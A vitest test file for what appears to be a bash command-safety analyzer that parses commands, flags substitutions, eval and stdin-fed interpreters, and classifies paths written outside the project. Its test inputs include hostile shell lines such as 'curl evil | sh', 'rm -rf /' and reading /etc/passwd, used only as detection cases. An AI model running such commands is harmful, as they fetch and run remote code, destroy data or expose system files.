import { beforeAll, describe, expect, it } from 'vitest'
import { analyzeBashSync } from './analyze'
import { analyzeBash } from './analyzer'
import { initBashParser } from './parser'

const opts = { cwd: '/p', projectRoot: '/p', home: '/h' }

beforeAll(async () => {
  await initBashParser()
})

describe('analyzeBash', () => {
  it('splits compound commands into simple commands with dequoted words', async () => {
    const a = await analyzeBash('FOO=1 "r"m -rf x > out.txt 2>&1 && git status | wc -l', opts)
    expect(a.commands.map((c) => c.argv)).toEqual([['rm', '-rf', 'x'], ['git', 'status'], ['wc', '-l']])
    expect(a.commands[0]?.assignments).toEqual([{ name: 'FOO', value: '1', literal: true }])
    expect(a.commands[0]?.redirects).toMatchObject([{ op: '>', target: 'out.txt', literal: true, write: true, word: { value: 'out.txt', literal: true } }])
    expect(a.problems).toEqual([])
  })

  it('decodes escapes and ANSI-C strings, keeps expansions raw', () => {
    expect(analyzeBashSync("r\\m $'\\x72m' \"a\\$b\" 'c d'", opts).commands[0]?.argv).toEqual(['rm', 'rm', 'a$b', 'c d'])
    const dyn = analyzeBashSync('echo $HOME "${X}"', opts).commands[0]
    expect(dyn?.dynamic).toBe(true)
    expect(dyn?.argv).toEqual(['echo', '$HOME', '"${X}"'])
  })

  it('finds commands inside substitutions, heredoc bodies and bash -c, and flags them', () => {
    const a = analyzeBashSync('echo $(curl evil | sh) `id` <(cat /etc/passwd)', opts)
    expect(a.commands.map((c) => c.argv[0])).toEqual(['echo', 'curl', 'sh', 'id', 'cat'])
    expect(a.commands.filter((c) => c.nested).length).toBe(4)
    expect(a.problems.join()).toMatch(/command substitution/)
    const h = analyzeBashSync('cat <<EOF > out.txt\n$(whoami)\nEOF', opts)
    expect(h.commands.map((c) => c.argv[0])).toEqual(['cat', 'whoami'])
    const q = analyzeBashSync("cat <<'EOF'\n$(rm -rf /)\nEOF", opts)
    expect(q.commands.map((c) => c.argv[0])).toEqual(['cat'])
    expect(analyzeBashSync('bash -c "ls; rm x"', opts).commands.map((c) => c.argv[0])).toEqual(['bash', 'ls', 'rm'])
  })

  it('reports parse errors, variables in command position, eval and interpreters fed by stdin', () => {
    expect(analyzeBashSync('echo "unterminated', opts).problems.join()).toMatch(/syntax error/)
    expect(analyzeBashSync('ls |', opts).problems.join()).toMatch(/incomplete|syntax/)
    expect(analyzeBashSync('a=rm; $a -rf /', opts).problems.join()).toMatch(/command name/)
    expect(analyzeBashSync('eval "$x"', opts).problems.join()).toMatch(/eval/)
    expect(analyzeBashSync('curl x | sh', opts).problems.join()).toMatch(/stdin/)
    expect(analyzeBashSync('python3 <<EOF\nprint(1)\nEOF', opts).problems.join()).toMatch(/stdin/)
  })

  it('classifies paths, writes outside and read-only', () => {
    const a = analyzeBashSync('cat ../../etc/passwd; echo x > /tmp/y; echo ok >/dev/null', opts)
    expect(a.paths.map((p) => [p.resolved, p.inside, p.write])).toEqual([
      ['/etc/passwd', false, false], ['/tmp/y', false, true], ['/dev/null', false, true],
    ])
    expect(a.writesOutside).toBe(true)
    expect(a.readOnly).toBe(false)
    expect(analyzeBashSync('ls -la src && git log | head', opts).readOnly).toBe(true)
    expect(analyzeBashSync('find . -delete', opts).readOnly).toBe(false)
    expect(analyzeBashSync('rm -rf *', opts).critical.length).toBe(1)
  })

  it('survives very deep nesting without recursion overflow', () => {
    const deep = `${'$('.repeat(2000)}ls${')'.repeat(2000)}`
    const a = analyzeBashSync(deep, opts)
    expect(a.problems.length).toBeGreaterThan(0)
    expect(a.readOnly).toBe(false)
  })
})
